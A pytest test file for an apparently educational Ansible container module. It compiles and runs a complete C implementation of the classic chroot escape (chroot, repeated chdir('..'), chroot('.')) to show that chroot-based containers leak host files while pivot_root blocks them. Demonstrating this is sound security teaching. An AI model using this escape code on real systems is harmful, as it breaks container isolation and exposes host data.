"""The talk's lesson, run for real: a root process in a chroot container escapes with chroot(); chdir(".."); with
root_method pivot_root the same program stays inside. And what neither mode changes: capabilities, seccomp,
no_new_privs. docs/security.md states each line; the test of each line is named there.

The escape is a tiny C program compiled now, statically (the busybox root has no C library), with the machine's gcc;
without gcc the escape tests are skipped with that reason. It runs as the container's own command (its PID 1), so it
is exactly "a root process in the container"; its verdict goes to the container's log.
"""

from __future__ import annotations

import os
import secrets
import shutil
import subprocess
import time

import pytest

from test_ns_container import Containers, mount_points_in_namespace_of
from ansible_collections.unboxed.lab.plugins.module_utils import process

pytestmark = pytest.mark.root

ESCAPE_C = r'''
/* The classic chroot escape, as a root process inside a container runs it. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char text[256] = "";
    ssize_t got;
    int fd, i;

    if (argc < 3) {
        fprintf(stderr, "usage: escape SCRATCH_DIR HOST_FILE\n");
        return 2;
    }
    /* chroot() into a subdirectory, and keep the working directory outside that new root ... */
    if (mkdir(argv[1], 0700) != 0 && errno != EEXIST) {
        printf("escape: mkdir %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    if (chroot(argv[1]) != 0) {
        printf("escape: chroot %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    /* ... then walk up with "..": the walk stops only at the root of the mount namespace, not at the old root. */
    for (i = 0; i < 1024; i++)
        chdir("..");
    chroot(".");
    fd = open(argv[2], O_RDONLY);
    if (fd < 0) {
        printf("escape: blocked: %s: %s\n", argv[2], strerror(errno));
    } else {
        got = read(fd, text, sizeof text - 1);
        text[got > 0 ? got : 0] = '\0';
        printf("escape: escaped: %s holds %s\n", argv[2], text);
        close(fd);
    }
    fflush(stdout);
    for (;;)
        pause();
}
'''

VERDICT_TIMEOUT = 30


@pytest.fixture(scope='module')
def escape_program(tmp_path_factory):
    gcc = shutil.which('gcc')
    if not gcc:
        pytest.skip('gcc is not installed: the escape program is compiled at test time (apt-get install gcc libc6-dev)')
    build = tmp_path_factory.mktemp('escape-build')
    source = build / 'escape.c'
    source.write_text(ESCAPE_C)
    result = subprocess.run([gcc, '-static', '-O2', '-Wall', '-o', str(build / 'escape'), str(source)],
                            capture_output=True, text=True, check=False, timeout=300)
    if result.returncode != 0:
        pytest.skip(f'gcc could not build a static program (is libc6-dev installed?): {result.stderr.strip()}')
    return str(build / 'escape')


@pytest.fixture
def rootfs(busybox_rootfs, escape_program):
    shutil.copy2(escape_program, os.path.join(busybox_rootfs, 'bin', 'escape'))
    return busybox_rootfs


@pytest.fixture
def containers(tmp_path, rootfs):
    tracker = Containers(tmp_path, rootfs)
    yield tracker
    tracker.cleanup()


@pytest.fixture
def host_secret(tmp_path):
    """A file on the host, outside the container's root: only an escaped process can read it."""
    path = tmp_path / 'host-only.txt'
    secret = secrets.token_hex(8)
    path.write_text(secret)
    return str(path), secret


def verdict(log_path):
    deadline = time.monotonic() + VERDICT_TIMEOUT
    while time.monotonic() < deadline:
        with open(log_path, encoding='utf-8', errors='replace') as handle:
            lines = [line.strip() for line in handle if line.startswith('escape: ')]
        if lines:
            return lines[-1]
        time.sleep(0.05)
    raise AssertionError(f'the escape program wrote no verdict to {log_path} within {VERDICT_TIMEOUT} s')


def start(run_module, containers, root_method, command):
    result = run_module('ns_container', containers.args(containers.new_name(), root_method=root_method, command=command))
    assert result['changed'] is True and not result.get('failed'), result.get('msg')
    assert result['root_method'] == root_method
    return result


def test_chroot_is_escaped_by_a_root_process_in_the_container(run_module, containers, rootfs, host_secret):
    """The talk's slide: root_method chroot, and the classic escape reads a file of the host."""
    path, secret = host_secret
    result = start(run_module, containers, 'chroot', ['/bin/escape', '/tmp/escape-scratch', path])
    assert verdict(result['log_path']) == f'escape: escaped: {path} holds {secret}'


def test_pivot_root_blocks_the_same_escape(run_module, containers, rootfs, host_secret):
    path, _secret = host_secret
    result = start(run_module, containers, 'pivot_root', ['/bin/escape', '/tmp/escape-scratch', path])
    assert verdict(result['log_path']) == f'escape: blocked: {path}: No such file or directory'


def test_the_default_root_method_is_the_one_that_blocks_it(run_module, containers, rootfs, host_secret):
    path, _secret = host_secret
    args = containers.args(containers.new_name(), command=['/bin/escape', '/tmp/escape-scratch', path])
    result = run_module('ns_container', args)
    assert result['root_method'] == 'pivot_root', result.get('msg')
    assert verdict(result['log_path']).startswith('escape: blocked: ')


def test_only_chroot_keeps_the_hosts_mounts_in_the_container(run_module, containers, rootfs):
    """chroot: the container's mount namespace holds a copy of every host mount (what the escape walks into);
    pivot_root: only the root file system and the container's /proc."""
    with open('/proc/self/mountinfo', encoding='utf-8') as handle:
        host_mounts = {line.split()[4] for line in handle}
    chrooted = start(run_module, containers, 'chroot', ['tail', '-f', '/dev/null'])
    pivoted = start(run_module, containers, 'pivot_root', ['tail', '-f', '/dev/null'])
    chroot_mounts = set(mount_points_in_namespace_of(chrooted['pid']))
    assert '/' in chroot_mounts and '/proc' in chroot_mounts and f'{rootfs}/proc' in chroot_mounts
    assert len(chroot_mounts & host_mounts) >= 3
    assert mount_points_in_namespace_of(pivoted['pid']) == ['/', '/proc']


def status_fields(pid, names):
    with open(f'/proc/{pid}/status', encoding='ascii') as handle:
        fields = dict(line.rstrip('\n').split(':\t', 1) for line in handle if ':\t' in line)
    return {name: fields.get(name, '').strip() for name in names}


SECURITY_FIELDS = ('CapEff', 'CapPrm', 'CapBnd', 'Seccomp', 'NoNewPrivs')


@pytest.mark.parametrize('root_method', ['chroot', 'pivot_root'])
def test_neither_mode_drops_a_capability_or_sets_seccomp_or_no_new_privs(run_module, containers, rootfs, root_method):
    """Root in the container is root with every capability of root on the host, with no seccomp filter and without
    no_new_privs - in both modes. pivot_root closes the path back to the host's files, nothing else."""
    result = start(run_module, containers, root_method, ['tail', '-f', '/dev/null'])
    inside = status_fields(result['pid'], SECURITY_FIELDS)
    ours = status_fields(os.getpid(), SECURITY_FIELDS)  # this test runs as root on the host
    assert inside['CapEff'] == ours['CapEff'] == inside['CapBnd'] and int(inside['CapEff'], 16) != 0, inside
    assert inside['CapPrm'] == ours['CapPrm']
    assert inside['Seccomp'] == '0' and inside['NoNewPrivs'] == '0', inside
    assert process.read_cmdline(result['pid']) == ['tail', '-f', '/dev/null']
